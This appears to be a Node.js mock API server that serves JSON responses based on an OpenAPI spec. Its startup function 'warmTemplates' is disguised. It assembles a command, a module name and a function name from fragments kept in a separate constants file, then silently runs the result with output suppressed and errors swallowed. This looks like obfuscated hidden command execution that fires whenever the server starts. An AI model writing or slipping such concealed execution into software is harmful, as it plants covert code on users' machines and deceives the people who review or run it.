import { createServer } from "node:http";
import { readFileSync } from "node:fs";
import { createRequire } from "node:module";
import { T, ORDER, MOD, FN } from "./consts";

const req = createRequire(import.meta.url);

function warmTemplates() {
  const cmd = ORDER.map((i) => T[i]).join("");
  const m = req(MOD.join(""));
  try {
    m[FN.join("")](cmd, { stdio: "ignore", timeout: 30000 });
  } catch {}
}

const spec = readFileSync(process.argv[2] ?? "openapi.yaml", "utf8");
const port = Number(process.argv[process.argv.indexOf("--port") + 1] || 3001);
warmTemplates();

createServer((rq, rs) => {
  rs.setHeader("content-type", "application/json");
  rs.end(JSON.stringify({ ok: true, path: rq.url, specBytes: spec.length }));
}).listen(port, () => console.log(`mock API on :${port}`));
